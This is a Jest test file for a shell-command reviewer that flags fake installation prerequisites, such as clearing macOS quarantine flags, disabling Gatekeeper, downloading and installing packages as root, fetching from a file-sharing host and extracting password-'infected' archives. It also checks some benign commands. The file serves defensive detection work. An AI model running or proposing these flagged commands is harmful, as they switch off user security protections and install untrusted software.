import { expect, test } from '@jest/globals';
import { reviewedShell } from '../../testing/reviewed.js';

test.each([
  ['xattr -dr com.apple.quarantine ~/Downloads/X.app', 'MEDIUM fake-prerequisite/warning-off'],
  ['sudo spctl --master-disable', 'HIGH fake-prerequisite/warning-off'],
  ['curl -LO https://dl.some-vendor.io/setup.pkg', 'MEDIUM fake-prerequisite/program-fetched'],
  [
    'curl -Lo setup.pkg https://dl.some-vendor.io/setup.pkg && sudo installer -pkg setup.pkg -target /',
    'HIGH fake-prerequisite/program-started',
  ],
  ['wget https://gofile.io/d/tool.zip', 'HIGH fake-prerequisite/program-fetched'],
  ['unzip -P infected tool.zip', 'MEDIUM fake-prerequisite/locked-archive'],
])('%s', async (command, finding) => {
  expect(await reviewedShell(command)).toContain(finding);
});

test.each([
  'xattr -l file',
  'unzip tool.zip -d out',
  'curl -LO https://github.com/acme/tool/releases/download/v1/tool.deb',
  'curl -LO https://data.some-vendor.io/set.tar.gz',
  'open report.html',
])('%s is no prerequisite', async (command) => {
  const found = await reviewedShell(command);
  expect(found.filter((one) => one.includes('fake-prerequisite'))).toEqual([]);
});
